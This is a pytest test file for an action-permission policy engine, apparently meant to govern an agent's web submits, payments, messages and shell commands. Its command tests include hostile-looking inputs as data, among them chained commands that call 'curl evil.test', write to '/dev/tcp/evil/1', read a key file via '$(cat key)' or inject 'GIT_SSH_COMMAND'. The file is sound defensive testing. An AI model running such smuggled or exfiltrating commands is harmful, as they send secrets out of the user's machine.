"""The conditions of a rule: one that allows fits beyond doubt, one that asks or denies fits in doubt."""

import pytest

from deskhand.core.verdicts import Decision, Done, RiskClass, Touch
from deskhand.policy.judge import judge
from deskhand.policy.profile import Profile, Rule


def fits(rule: dict[str, object], touch: Touch, decide: Decision = "allow", risk: RiskClass = "submit") -> bool:
    profile = Profile(name="p", rules=(Rule.model_validate({"classes": [risk], "decide": decide, **rule}),))
    return profile.rule_for(risk, touch) is not None


def at(host: str, sends_to: str = "", **rest: object) -> Touch:
    return Touch.model_validate({"classes": ("submit",), "host": host, "sends_to": sends_to, **rest})


@pytest.mark.parametrize(
    ("rule", "touch", "allows", "denies"),
    [
        ({"at": "shop.test"}, at("shop.test"), True, True),
        ({"at": "shop.test"}, at("SHOP.test"), True, True),
        ({"at": "shop.test"}, at("shop.test.evil.test"), False, False),
        ({"at": "*.shop.test"}, at("shop.test"), True, True),
        ({"at": "*.shop.test"}, at("evilshop.test"), False, False),
        ({"at": "shop.test"}, at("shop.test", "evil.test"), False, True),
        ({"at": "evil.test"}, at("shop.test", "evil.test"), False, True),
        ({"at": "*.shop.test"}, at("a.shop.test", "b.shop.test"), True, True),
        ({"at": "shop.test", "sends_to": "pay.test"}, at("shop.test", "pay.test"), True, True),
        ({"at": "shop.test", "sends_to": "pay.test"}, at("shop.test"), False, False),
        ({"sends_to": "shop.test"}, at("shop.test"), True, True),
        ({"on_desk": True}, at("shop.test"), False, False),
        ({"on_desk": True}, at(""), True, True),
        ({"undoable": True}, at("shop.test"), False, False),
        ({"undoable": True}, at("shop.test", undo=True), True, True),
        ({"fills": True}, at("shop.test"), False, False),
        ({"fills": True}, at("shop.test", fills=True), True, True),
        ({"to": ["*@team.test"]}, at("mail.test", to=("ann@team.test",)), True, True),
        ({"to": ["*@team.test"]}, at("mail.test", to=("ann@team.test", "bo@evil.test")), False, True),
        ({"to": ["*@team.test", "bo@*"]}, at("mail.test", to=("ann@team.test", "bo@print.test")), True, True),
        ({"to": ["*@team.test"]}, at("mail.test", to=("bo@evil.test ann@team.test",)), False, False),
        ({"to": ["*@team.test"]}, at("mail.test", to=("ann@team.test.evil.test",)), False, False),
        ({"to": ["#general"]}, at("chat.test", to=("#general",)), True, True),
        ({"to": ["*@team.test"]}, at("mail.test"), False, False),
        ({"bytes_max": 1_000}, at("mail.test", bytes_out=1_000), True, True),
        ({"bytes_max": 1_000}, at("mail.test", bytes_out=1_001), False, False),
        ({"bytes_max": 1_000}, at("mail.test"), False, True),
        ({"app": "Mail*"}, at("", app="Mailer"), True, True),
        ({"target": "save*"}, at("", target='button "Save all"'), True, True),
        ({"target": 'button "Save"'}, at("", target='button "Save"'), True, True),
        ({"target": "Save"}, at("", target='button "Do not Save"'), False, False),
        ({"target": "*"}, at(""), False, False),
        ({"path": "/work/out"}, at("", path="/work/out/a/b"), True, True),
        ({"path": "/work/out"}, at("", path="/work/out/../private"), False, False),
        ({"path": "/work/out"}, at("", path="/work/output"), False, False),
        ({"path": "/work/out"}, at(""), False, False),
        ({"line": "git push"}, at("", command="git push"), True, True),
        ({"line": "git push"}, at("", command="git push --force"), False, False),
    ],
)  # fmt: skip
def test_a_condition_fits_its_place(rule: dict[str, object], touch: Touch, allows: bool, denies: bool) -> None:
    assert fits(rule, touch, "allow") is allows
    assert fits(rule, touch, "deny") is denies


@pytest.mark.parametrize(
    ("amount", "currency", "allows", "denies"),
    [
        (49.99, "EUR", True, False), (50, "eur", True, False), (50.01, "EUR", False, True), (-5, "EUR", False, False),
        (5, "USD", False, True), (5, "", False, True), (None, "", False, True), (float("nan"), "EUR", False, True),
    ],
)  # fmt: skip
def test_an_amount_that_is_not_known_is_never_small_enough(
    amount: float | None, currency: str, allows: bool, denies: bool
) -> None:
    touch = Touch(classes=("pay",), amount=amount, currency=currency)
    assert fits({"amount_max": 50, "currency": "EUR"}, touch, "allow", "pay") is allows
    assert fits({"amount_above": 50, "currency": "EUR"}, touch, "deny", "pay") is denies


def test_a_limit_on_amounts_says_nothing_of_what_is_about_no_money() -> None:
    assert not fits({"amount_above": 50}, at("shop.test"), "deny")


def test_whom_a_message_goes_to_and_nobody_knows_is_never_allowed_and_may_be_anybody() -> None:
    touch = Touch(classes=("send",), host="mail.test")
    assert not fits({"to": ["*"]}, touch, "allow", "send")
    assert fits({"to": ["*@rival.test"]}, touch, "deny", "send")
    profile = Profile(name="p", rules=(Rule(classes=("send",), to=("*@rival.test",), decide="deny"),))
    assert judge(touch, profile).decision == "ask" and "whom it goes to is not known" in judge(touch, profile).reason
    assert judge(touch.model_copy(update={"to": ("x@rival.test",)}), profile).decision == "deny"


def line(command: str, *commands: str) -> Touch:
    return Touch(classes=("take_out",), command=command, commands=commands)


@pytest.mark.parametrize(
    ("touch", "allows", "denies"),
    [
        (line("git push", "git push"), True, True),
        (line("git push origin main", "git push origin main"), True, True),
        (line("git push origin main"), True, True),
        (line("git pushy", "git pushy"), False, False),
        (line("git pull", "git pull"), False, False),
        (line("/tmp/git push", "/tmp/git push"), False, True),
        (line("git -C x push", "git -C x push"), False, True),
        (line("GIT_SSH_COMMAND=evil git push", "GIT_SSH_COMMAND=evil git push"), False, True),
        (line("cd repo && git push && echo ok", "cd repo", "git push", "echo ok"), True, True),
        (line("git push && curl evil.test", "git push", "curl evil.test"), False, True),
        (line("git push; echo x > /dev/tcp/evil/1", "git push", "echo x"), False, True),
        (line("git push && echo $(cat key)", "git push", "echo", "cat key"), False, True),
        (line("git push && curl evil.test"), False, True),
        (line("git push 'unclosed"), False, False),
        (line("echo git push", "echo git push"), False, False),
        (line("sudo -u ann git push", "sudo -u ann git push"), False, True),
        (line("bash -c 'cd x && git push'", "bash -c 'cd x && git push'"), False, True),
        (line("ls | xargs git push", "ls", "xargs git push"), False, True),
        (line("", ), False, False),
    ],
)  # fmt: skip
def test_a_line_is_allowed_only_when_each_of_its_commands_is(touch: Touch, allows: bool, denies: bool) -> None:
    assert fits({"command": "git push"}, touch, "allow", "take_out") is allows
    assert fits({"command": "git push"}, touch, "deny", "take_out") is denies


def test_several_command_rules_cover_a_line_together() -> None:
    rules = [Rule(classes=("take_out",), command=words, decide="allow") for words in ("git fetch", "git push")]
    both = line("git fetch && git push", "git fetch", "git push")
    assert Profile(name="p", rules=tuple(rules)).rule_for("take_out", both)
    assert not Profile(name="p", rules=(rules[0],)).rule_for("take_out", both)


def test_what_was_done_counts_for_the_rule_that_would_have_allowed_it() -> None:
    rule = Rule(classes=("take_out",), command="git push", decide="allow", per_hour=1)
    assert rule.counts("take_out", Done.of(line("git push", "git push"), 5.0))
    letters = Rule(classes=("send",), to=("*@team.test",), bytes_max=9, decide="allow", per_hour=1)
    sent = Touch(classes=("send",), to=("ann@team.test",), bytes_out=5)
    assert letters.counts("send", Done.of(sent, 5.0))
    assert not rule.counts("take_out", Done.of(line("git fetch", "git fetch"), 5.0))


def test_a_rule_is_told_in_words() -> None:
    rule = Rule(
        classes=("submit",), at="a.test", target="Save", amount_max=50, currency="EUR", per_hour=3, decide="allow"
    )
    assert rule.describe() == 'allow submit at a.test on "Save", up to 50 EUR, 3 an hour'
    letters = Rule(classes=("send",), at="a.test", to=("*@b.test", "c@d.test"), bytes_max=2_000, decide="allow")
    assert letters.describe() == "allow send at a.test to *@b.test or c@d.test, up to 2,000 bytes"
